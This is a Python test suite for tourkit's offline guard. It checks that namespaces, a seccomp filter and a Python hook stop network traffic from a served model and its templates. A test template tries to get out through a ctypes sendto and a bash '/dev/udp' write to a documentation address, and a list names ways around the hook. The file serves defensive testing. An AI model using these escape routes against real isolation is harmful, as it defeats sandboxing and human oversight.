"""The offline guard holds in native code and children, where the system can do it, and says which one holds.

The ways out are in ways_out.py. Each is tried in a namespace with a dead end, where what gets out is a packet.
"""

from __future__ import annotations

import errno
import http.client
import json
import os
import re
import shutil
import socket
import subprocess
import sys
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from openai_stub import serve
from serving import Serving, serve_command

from hostile.ways_out import INSIDE, WAYS
from tourkit import cli
from tourkit.isolation import trial
from tourkit.net import is_loopback

ROOT = Path(__file__).parents[2]
TINY = ROOT / "weights" / "tiny" / "gguf" / "tiny-q8_0.gguf"
# What the hook does not see. docs/offline.md says it.
UNSEEN = {
    *("ctypes_connect", "ctypes_sendto", "ctypes_getaddrinfo", "ctypes_syscall", "io_uring"),
    *("curl", "python", "bash", "os_system", "multiprocessing_spawn"),
    *("inherited_socket", "back_into_the_other_namespace"),
}
# What stays on this machine, so the hook lets it pass.
LOCAL = {"proxy_on_loopback", "unspecified_address", "netlink"}
# What fails in any case: the system has no such call, or no such setting is left; or the fork has a hook of its own.
NOTHING = {"x32_syscall", "proxy_of_the_environment", "multiprocessing_fork"}

needs_linux = pytest.mark.skipif(sys.platform != "linux", reason="the guards of the kernel are for Linux")


def tried(guard: str, trace: Path | None = None) -> dict[str, Any]:
    """Return what came of each way under a guard. `trace`: where strace writes the calls, if it is installed."""
    if refusal := trial.refusal():
        pytest.skip(f"no namespaces here, so nothing shows what gets out: {refusal}")
    command = [sys.executable, str(Path(__file__).with_name("ways_out.py")), guard]
    if trace is not None and shutil.which("strace"):
        calls = "trace=connect,sendto,sendmsg,sendmmsg"
        command = ["strace", "-f", "-qq", "-e", calls, "-o", str(trace), *command]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    found: dict[str, Any] = json.loads(done.stdout)
    return found


@pytest.fixture(scope="module")
def traces(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("traces")


@pytest.fixture(scope="module")
def namespace(traces: Path) -> dict[str, Any]:
    return tried("namespace", traces / "namespace")


@pytest.fixture(scope="module")
def seccomp(traces: Path) -> dict[str, Any]:
    return tried("seccomp", traces / "seccomp")


@pytest.fixture(scope="module")
def hook() -> dict[str, Any]:
    return tried("hook")


@pytest.mark.starts
@needs_linux
@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("guard", ["namespace", "seccomp"])
def test_no_way_leads_out_of_a_guard_of_the_kernel(guard: str, way: str, request: pytest.FixtureRequest) -> None:
    outcome = request.getfixturevalue(guard)[way]

    assert outcome["packets"] == {}, outcome
    assert not outcome["succeeded"] or (guard == "namespace" and way in INSIDE), outcome


@pytest.mark.starts
@needs_linux
@pytest.mark.skipif(shutil.which("strace") is None, reason="strace is not installed: no system calls to look at")
@pytest.mark.parametrize("guard", ["namespace", "seccomp"])
def test_no_system_call_under_a_guard_of_the_kernel_gets_through(
    guard: str, traces: Path, request: pytest.FixtureRequest
) -> None:
    """A call to another machine succeeds for the kernel if it does not end in an error, or if it is under way."""
    request.getfixturevalue(guard)
    lines = (traces / guard).read_text().splitlines()
    outside = lines[0].split()[0]  # the process that tries the ways has no guard

    through = [line for line in lines if line.split()[0] != outside and (" = -1 " not in line or "EINPROGRESS" in line)]

    assert len(lines) > len(WAYS)
    assert [line for line in through if not all(map(is_loopback, addresses(line)))] == []


def addresses(line: str) -> list[str]:
    """Return the IP addresses in a line of strace."""
    four = re.findall(r'inet_addr\("([^"]+)"', line)
    return four + re.findall(r'inet_[a-z]+\([^"]*"([^"]+)"', line)


@pytest.mark.starts
@needs_linux
@pytest.mark.parametrize("way", WAYS)
def test_the_hook_alone_sees_what_the_page_says(way: str, hook: dict[str, Any]) -> None:
    outcome = hook[way]

    if way in UNSEEN:
        assert outcome["refused"] == 0
    elif way in LOCAL:
        assert outcome["packets"] == {}
        assert outcome["succeeded"]
    else:
        assert outcome["packets"] == {}, outcome
        assert not outcome["succeeded"]
        assert outcome["refused"] == (way not in NOTHING), outcome


@pytest.mark.starts
@needs_linux
@pytest.mark.parametrize("guard", ["namespace", "seccomp", "hook"])
def test_an_attempt_of_python_code_is_printed_with_its_caller(guard: str, request: pytest.FixtureRequest) -> None:
    outcome = request.getfixturevalue(guard)["sendto"]

    assert re.search(r"tourkit: offline: refused .*, asked for by .*ways_out\.py:\d+ in udp", outcome["said"])
    assert outcome["refused"] == 1


@pytest.mark.starts
@needs_linux
@pytest.mark.parametrize("way", ["ctypes_sendto", "ctypes_syscall", "curl", "python", "multiprocessing_spawn"])
def test_an_attempt_of_native_code_or_of_a_child_is_counted_in_a_namespace(way: str, namespace: dict[str, Any]) -> None:
    assert namespace[way]["refused"] >= 1


# --- which guard holds -----------------------------------------------------------------------------------------------


def isolated(code: str, *, without: tuple[str, ...] = ()) -> subprocess.CompletedProcess[str]:
    """Run code that goes offline, as on a system that refuses the guards `without`."""
    refusing = {
        "namespace": "guard.namespaces.enter_network = refuse\n",
        "seccomp": "guard.seccomp.allow = refuse\n",
    }
    source = (
        "from tourkit import offline\n"
        "from tourkit.errors import LocalError\n"
        "from tourkit.isolation import guard\n"
        "from tourkit.isolation.guard import Needs\n"
        "def refuse(*_, **__):\n"
        "    raise LocalError('not allowed, says the test')\n" + "".join(refusing[name] for name in without) + code
    )
    return subprocess.run([sys.executable, "-c", source], capture_output=True, text=True, check=False)


@pytest.mark.starts
@needs_linux
@pytest.mark.parametrize(
    ("without", "needs", "name"),
    [
        (("namespace",), "Needs()", "seccomp"),
        (("namespace",), "Needs(loopback=True)", "hook"),
        (("namespace", "seccomp"), "Needs()", "hook"),
        ((), "Needs(reached_by_ip=True)", "hook"),
    ],
)
def test_the_next_guard_stands_in_with_a_line_that_says_why(without: tuple[str, ...], needs: str, name: str) -> None:
    done = isolated(f"print(offline.isolate({needs}).name)", without=without)

    assert done.stdout == f"{name}\n", done.stderr
    [line] = done.stderr.splitlines()
    assert line.startswith(f"tourkit: offline: the guard is {name}: ")
    assert ("not allowed, says the test" in line) is bool(without)


@pytest.mark.starts
@needs_linux
def test_a_process_with_threads_falls_back_and_says_so() -> None:
    done = isolated(
        "import threading\n"
        "threading.Thread(target=threading.Event().wait, daemon=True).start()\n"
        "print(offline.isolate(Needs()).name)"
    )

    assert done.stdout == "hook\n"
    assert "has 2 threads already" in done.stderr


@pytest.mark.starts
@needs_linux
def test_a_guard_of_the_kernel_leaves_what_a_worker_uses(tmp_path: Path) -> None:
    code = (
        "import asyncio, multiprocessing, socket\n"
        "async def nothing(): pass\n"
        "asyncio.run(nothing())\n"
        f"with socket.socket(socket.AF_UNIX) as sock: sock.bind({str(tmp_path / 'sock')!r})\n"
        "multiprocessing.Pipe()[0].close()\n"
        "print('fine')"
    )
    for guard in ("namespace", "seccomp"):
        done = isolated(f"offline.isolate(Needs(), {guard!r})\n{code}")
        if "allows no" not in done.stderr:
            assert done.stdout == "fine\n", done.stderr
        (tmp_path / "sock").unlink(missing_ok=True)


@pytest.mark.starts
@needs_linux
def test_the_sockets_of_a_resolver_are_hidden_in_a_namespace(tmp_path: Path) -> None:
    """Unix sockets cross network namespaces, and a resolver asks the network for others."""
    if refusal := trial.refusal():
        pytest.skip(f"no namespaces here: {refusal}")
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(tmp_path / "resolver"))
        server.listen()
        done = isolated(
            f"from pathlib import Path\nimport socket\nguard._RESOLVERS = (Path({str(tmp_path)!r}),)\n"
            f"offline.isolate(Needs(), 'namespace')\n"
            f"print(socket.socket(socket.AF_UNIX).connect_ex({str(tmp_path / 'resolver')!r}))"
        )

    assert done.stdout == f"{errno.ENOENT}\n", done.stderr


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["serve", "--guard", "hook"], "--guard hook is for a server that is offline: add --offline"),
        (["run", "json_extraction", "--input", "a", "--output", "b", "--url", "http://127.0.0.1:9", "--guard", "hook"],
         "--guard hook is for a run that is offline, and the server is not: add --offline"),
    ],
)  # fmt: skip
def test_a_guard_is_forced_only_where_one_holds(
    arguments: list[str], message: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli.main(arguments) == 2
    assert capsys.readouterr().err == f"tourkit: {message}\n"


@pytest.mark.starts
@needs_linux
def test_a_forced_guard_that_cannot_be_had_is_one_line(tmp_path: Path) -> None:
    with serve(lambda body, index: "x") as stub:
        done = run(tmp_path, "json_extraction", stub.url, "--offline", "--guard", "seccomp")

    assert done.returncode == 4
    assert done.stderr == (
        "tourkit: --guard seccomp: this process needs IP sockets on loopback, which the filter refuses: "
        "take another guard, or leave the choice to tourkit\n"
    )


# --- servers and runs ------------------------------------------------------------------------------------------------

TEMPLATE = '''"""Ask, and try to get out."""
import contextlib, ctypes, socket, struct, subprocess

ROLE = "tool"


def run(document, client):
    with contextlib.suppress(OSError):
        socket.getaddrinfo("hub.invalid", 443)
    libc = ctypes.CDLL(None)
    address = struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", 9, socket.inet_aton("203.0.113.7"))
    native = libc.sendto(libc.socket(socket.AF_INET, socket.SOCK_DGRAM, 0), b"x", 1, 0, address, 16)
    child = subprocess.run(["bash", "-c", "echo x > /dev/udp/203.0.113.7/53"], stderr=subprocess.DEVNULL).returncode
    return {"said": client.chat("Hello", max_tokens=2).text, "out": native == 1 or child == 0, "url": client.url}
'''


def run(folder: Path, template: str, url: str, *options: str) -> subprocess.CompletedProcess[str]:
    (folder / "in.jsonl").write_text('{"text": "x"}\n')
    files = ["--input", str(folder / "in.jsonl"), "--output", str(folder / "out.jsonl"), "--force"]
    command = [sys.executable, "-m", "tourkit", "run", template, *files, "--url", url, *options]
    return subprocess.run(command, capture_output=True, text=True, check=False, env=os.environ)


def asked(url: str, method: str, path: str, body: dict[str, Any] | None = None) -> Any:
    connection = http.client.HTTPConnection(urlsplit(url).netloc)
    data = None if body is None else json.dumps(body)
    connection.request(method, path, data, {"content-type": "application/json"})
    answer = connection.getresponse().read().decode()
    connection.close()
    return answer if path == "/metrics" else json.loads(answer)


def check_worker(served: Serving, guard: str) -> None:
    """Ask a server that is offline, and look at its worker from outside."""
    question = {"model": "tool", "messages": [{"role": "user", "content": "Hello"}], "max_tokens": 2}
    answer = asked(served.url, "POST", "/v1/chat/completions", question)
    health = asked(served.url, "GET", "/health")
    [worker] = health["workers"].values()
    networks = [Path(f"/proc/{pid}/ns/net").readlink() for pid in (served.process.pid, worker["pid"])]
    status = Path(f"/proc/{worker['pid']}/status").read_text()

    assert answer["choices"][0]["message"]["content"]
    assert (health["offline"], worker["guard"]) == (True, guard)
    assert (networks[0] != networks[1]) is (guard == "namespace")
    assert re.search(r"^Seccomp:\t2$", status, re.MULTILINE)
    assert re.search(r"^tourkit_offline_refused_total\{.*\} 0\.0$", asked(served.url, "GET", "/metrics"), re.MULTILINE)
    assert re.search(rf"^ready: .* s \(guard: {guard}\)$", served.log.read_text(), re.MULTILINE)


@needs_linux
def test_a_worker_answers_from_a_namespace_and_says_it(served: Serving) -> None:
    if refusal := trial.refusal():
        pytest.skip(f"no namespaces here: {refusal}")
    check_worker(served, "namespace")


@pytest.mark.starts
@needs_linux
def test_a_worker_answers_under_the_filter_and_says_it(tmp_path: Path) -> None:
    arguments = [str(TINY), "--offline", "--guard", "seccomp", "--context", "512"]
    with serve_command(arguments, tmp_path / "log") as running:
        check_worker(running, "seccomp")


@needs_linux
@pytest.mark.parametrize("deadline", [(), ("--deadline", "10m")])
def test_a_run_against_an_offline_server_reaches_that_server_alone(
    deadline: tuple[str, ...], served: Serving, tmp_path: Path
) -> None:
    """With a deadline the template runs in another process, which is inside too and has the hook too."""
    if refusal := trial.refusal():
        pytest.skip(f"no namespaces here: {refusal}")
    (tmp_path / "asking.py").write_text(TEMPLATE)

    done = run(tmp_path, str(tmp_path / "asking.py"), served.url, *deadline)

    assert done.returncode == 0, done.stderr
    assert f"offline: only the server at {served.url} can be reached (guard: namespace)\n" in done.stderr
    [record] = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    assert record["said"]
    assert (record["out"], record["url"]) == (False, served.url)
    assert re.search(r"refused a connection to hub\.invalid, asked for by \S+asking\.py:\d+ in run", done.stderr)
